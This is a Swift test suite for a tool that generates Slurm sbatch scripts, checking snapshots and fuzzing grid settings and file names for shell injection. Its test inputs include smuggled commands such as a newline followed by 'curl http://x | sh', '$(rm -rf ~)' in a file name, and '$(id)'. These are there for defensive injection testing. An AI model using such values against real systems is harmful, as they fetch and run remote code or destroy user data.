// The sbatch script `sweep submit` writes: its text against a snapshot, and what hostile values in the
// grid's `slurm` block or file name can do to it (nothing: they are refused, or stay inside one word).
import Foundation
import Testing
import SweepCore
import TestSupport
@testable import Worker

@Suite struct SbatchScriptTests {
    static func grid(_ slurm: String, path: String = "grids/g.json", name: String? = "g") throws -> Grid {
        let named = name.map { #""name": "\#($0)", "# } ?? ""
        return try GridParser.parse(SourceText(path: path, text: #"{\#(named)"fixed": {"lr": 0.1}, "slurm": \#(slurm)}"#))
    }

    static func script(_ grid: Grid, grid path: String = "grids/g.json") throws -> SbatchScript {
        SbatchScript(sweep: grid.name, repository: "/home/u/sweep", grid: path, results: "/home/u/sweep/results/\(grid.name)",
                     settings: try SlurmSettings(grid: grid), tasks: 7)
    }

    /// The injection checks: every #SBATCH line comes before the first shell line, every directive is one
    /// word, and the script has exactly the lines its template has (no value made a line of its own).
    static func expectSafe(_ script: SbatchScript, sourceLocation: SourceLocation = #_sourceLocation) {
        let lines = script.text.components(separatedBy: "\n")
        let firstCommand = lines.firstIndex { !$0.isEmpty && !$0.hasPrefix("#") } ?? lines.count
        let lastDirective = lines.lastIndex { $0.hasPrefix("#SBATCH") } ?? -1
        #expect(lastDirective < firstCommand, "a directive after a shell line", sourceLocation: sourceLocation)
        for line in lines where line.hasPrefix("#SBATCH") {
            #expect(line.split(separator: " ", omittingEmptySubsequences: false).count == 2, "\(line.debugDescription)",
                    sourceLocation: sourceLocation)
        }
        let s = script.settings
        let directives = 8 + [s.partition, s.account, s.qos, s.constraint, s.gres].compactMap { $0 }.count + s.extra.count
        #expect(lines.filter { $0.hasPrefix("#SBATCH") }.count == directives, sourceLocation: sourceLocation)
        #expect(lines.count == 3 + directives + 5, "\(script.text)", sourceLocation: sourceLocation)
        #expect(lines.suffix(4).allSatisfy { $0.isEmpty || $0.hasPrefix("export ") || $0.hasPrefix("exec ") },
                sourceLocation: sourceLocation)
    }

    @Test func theScriptMatchesItsSnapshot() throws {
        let grid = try Self.grid(#"""
            {"partition": "long,short", "account": "optim-lab", "qos": "high", "time": "1-12:00:00", "cpus_per_task": 4,
             "mem": "16G", "constraint": "intel&avx512", "gres": "gpu:1", "max_concurrent": 20, "extra": ["--exclusive", "--mail-type=END"]}
            """#, name: "cifar-convnet")
        var script = try Self.script(grid)
        script.runOptions = ["--retry", "failed"]
        let text = script.text + script.arrayOption(ArraySubmission(indices: "0-449", offset: 0, count: 450)) + "\n"
        let mismatch = Snapshot.mismatch(text, named: "sbatch-full.sbatch")
        #expect(mismatch == nil, "\(mismatch ?? "")")
        let defaults = Snapshot.mismatch(try Self.script(try Self.grid("{}")).text, named: "sbatch-defaults.sbatch")
        #expect(defaults == nil, "\(defaults ?? "")")
    }

    @Test(arguments: [
        #"{"partition": "long\n#!/bin/sh\ncurl http://x | sh"}"#, #"{"partition": "long --wrap=id"}"#,
        #"{"account": "a b"}"#, #"{"qos": "q;id"}"#, #"{"constraint": "a\nb"}"#, #"{"gres": "gpu:1 --uid=0"}"#,
        #"{"time": "12:00:00\n"}"#, #"{"mem": "4G\n"}"#, #"{"time": "forever"}"#, #"{"extra": ["--comment=a b"]}"#,
        #"{"extra": ["--comment=x\nid"]}"#, #"{"extra": ["--comment='$(id)'"]}"#, #"{"partitoin": "long"}"#,
    ])
    func hostileOrMistypedSlurmValuesAreRefusedWithTheirPlace(_ slurm: String) throws {
        let grid = try Self.grid(slurm)
        #expect {
            _ = try SlurmSettings(grid: grid)
        } throws: { error in
            (error as? GridErrors)?.errors.allSatisfy { $0.position != nil } == true
        }
    }

    @Test(arguments: ["g\ncurl x | sh\n.json", "$(rm -rf ~).json", "my grid.json", "100%.json", "a'b.json", "x\u{7F}.json"])
    func aFileNameThatCannotNameTheSweepIsRefused(_ file: String) throws {
        #expect(throws: GridErrors.self) { _ = try Self.grid("{}", path: "/tmp/" + file, name: nil) }
        // An explicit name makes any file name usable; the path stays one shell word on one line.
        let grid = try Self.grid("{}", path: "/tmp/" + file, name: "ok")
        let script = try Self.script(grid, grid: grid.source.path)
        Self.expectSafe(script)
    }

    @Test func aSafeFileNameNamesTheSweep() throws {
        #expect(try Self.grid("{}", path: "/tmp/cifar-v2.1_b.json", name: nil).name == "cifar-v2.1_b")
    }

    @Test func shellWordsWithControlCharactersStayOnOneLine() {
        #expect(SbatchScript.quoted("grids/a.json") == "grids/a.json")
        #expect(SbatchScript.quoted("a b") == "'a b'")
        #expect(SbatchScript.quoted("it's") == #"'it'\''s'"#)
        #expect(SbatchScript.quoted("a\nb'\\") == #"$'a\x0ab\'\\'"#)
    }

    /// Random `slurm` blocks and file names built from characters that matter to a shell or to sbatch:
    /// each is refused, or gives a script that passes the injection checks.
    @Test func fuzzedSlurmBlocksAndFileNamesNeverInjectIntoTheScript() throws {
        var generator = SplitMix(seed: 18)
        let alphabet = Array("aZ09._-,:&|*[]()!=/ \t\n\r\u{0B}\u{0C}\u{7F}\u{85}\u{2028}$`;'\"\\%#{}<>?~é")
        func word() -> String {
            String((0..<Int(generator.next() % 12)).map { _ in alphabet[Int(generator.next() % UInt64(alphabet.count))] })
        }
        func jsonString(_ text: String) -> String { CanonicalJSON.string(.string(text)) }
        let keys = ["partition", "account", "qos", "time", "mem", "constraint", "gres"]
        var accepted = 0
        for _ in 0..<3000 {
            var members = keys.filter { _ in generator.next() % 3 == 0 }.map { "\(jsonString($0)): \(jsonString(word()))" }
            if generator.next() % 3 == 0 { members.append(#""extra": [\#(jsonString("--" + word()))]"#) }
            let file = "/tmp/" + word() + ".json"
            let name: String? = generator.next() % 2 == 0 ? nil : "n"
            guard let grid = try? Self.grid("{" + members.joined(separator: ", ") + "}", path: file, name: name),
                  let script = try? Self.script(grid, grid: file) else { continue }
            accepted += 1
            Self.expectSafe(script)
        }
        #expect(accepted > 50, "the fuzzer should also produce valid blocks (\(accepted))")
    }
}

/// A small seeded generator for the fuzz test (the same cases every run).
struct SplitMix {
    var state: UInt64
    init(seed: UInt64) { state = seed }
    mutating func next() -> UInt64 {
        state &+= 0x9E37_79B9_7F4A_7C15
        var z = state
        z = (z ^ (z >> 30)) &* 0xBF58_476D_1CE4_E5B9
        z = (z ^ (z >> 27)) &* 0x94D0_49BB_1331_11EB
        return z ^ (z >> 31)
    }
}
